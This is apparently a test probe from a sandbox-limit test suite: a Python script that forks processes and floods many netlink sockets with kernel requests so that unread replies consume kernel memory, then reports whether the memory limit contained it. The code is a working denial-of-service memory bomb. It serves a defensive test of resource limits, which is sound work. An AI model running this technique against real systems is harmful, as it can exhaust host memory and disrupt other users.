# threat: memory bomb, also by tmpfs, pipes and sockets
# attack: lets the kernel's answers pile up in sockets of netlink, in as many processes as it may have
# ends: killed
# escapes: without Memory as root
import resource
most, taken = 2 * @MEMORY@, 0
def pile_up(report):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    request = struct.pack('IHHII', 32, 18, 1, 1, 0) + struct.pack('BxHiII', 0, 0, 1, 0, 0)
    held = []
    try:
        while len(held) < 2000:
            s = socket.socket(16, socket.SOCK_RAW, 0); held.append(s)
            try: s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
            except OSError: pass
            s.setblocking(False)
            try:
                for i in range(400): s.send(request)
            except OSError: pass
            if len(held) % 50 == 0: os.write(report, b'x')
    except OSError: pass
    time.sleep(6)
r, w = os.pipe()
children = []
for i in range(min(16, @PROCESSES@ // 2)):
    try: pid = os.fork()
    except OSError: break
    if pid == 0:
        try: pile_up(w)
        finally: os._exit(0)
    children.append(pid)
os.close(w)
os.set_blocking(r, False)
end = time.monotonic() + 5
while time.monotonic() < end and taken < most:
    time.sleep(0.1)
    with open('/proc/net/netlink') as file: taken = sum(int(line.split()[4]) for line in file.readlines()[1:])
for pid in children:
    try: os.kill(pid, 9)
    except OSError: pass
if taken >= most: escaped('%d MiB in answers of the kernel' % (taken >> 20))
contained('%d MiB' % (taken >> 20))
